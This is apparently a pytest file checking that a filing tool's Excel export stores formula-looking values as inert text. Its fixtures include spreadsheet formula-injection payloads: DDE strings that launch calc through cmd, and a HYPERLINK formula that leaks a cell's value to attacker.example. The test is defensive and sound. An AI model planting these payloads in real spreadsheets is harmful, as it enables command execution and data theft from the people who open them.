"""Filing values that look like formulas travel through the workbook as inert text, unchanged."""

from __future__ import annotations

import subprocess
import sys
import zipfile
from pathlib import Path

import yaml
from openpyxl import load_workbook

from outbound.common.spreadsheet import append_row, is_formula_like
from outbound.expectations.filing import load_filing
from tests.expectations.cases import base_filing

DDE = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


def _hostile(tmp_path: Path) -> Path:
    data = base_filing()
    data["processor"]["name"] = LINK
    data["scenarios"][0]["purpose"] = DDE
    data["recipients"][0]["contact"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    src = tmp_path / "hostile.yaml"
    src.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return src


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    run = [sys.executable, "-m", "outbound", "filing", *args]
    return subprocess.run(run, capture_output=True, text=True, timeout=120)


def test_when_filing_values_look_like_formulas_then_they_round_trip_unchanged_and_inert(tmp_path: Path):
    src = _hostile(tmp_path)
    book, back = tmp_path / "f.xlsx", tmp_path / "back.yaml"
    assert _cli("export-template", str(book), "--from", str(src)).returncode == 0
    assert _cli("import", str(book), "--out", str(back)).returncode == 0
    assert load_filing(back) == load_filing(src)
    wb = load_workbook(book)  # formulas kept as formulas: nothing may be one
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if is_formula_like(c.value)]
    assert {c.value for c in cells} >= {DDE, LINK}
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    with zipfile.ZipFile(book) as z:  # no <f> element anywhere in the sheets' XML
        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_when_a_row_is_appended_then_only_formula_like_strings_are_made_text(tmp_path: Path):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    append_row(ws, ["=1+1", "-2", 3, "+x", "plain", "\tcmd"])
    wb.save(tmp_path / "a.xlsx")
    row = next(load_workbook(tmp_path / "a.xlsx").active.iter_rows(values_only=False))
    assert [c.value for c in row] == ["=1+1", "-2", 3, "+x", "plain", "\tcmd"]
    assert [c.data_type for c in row[:3]] == ["s", "s", "n"]
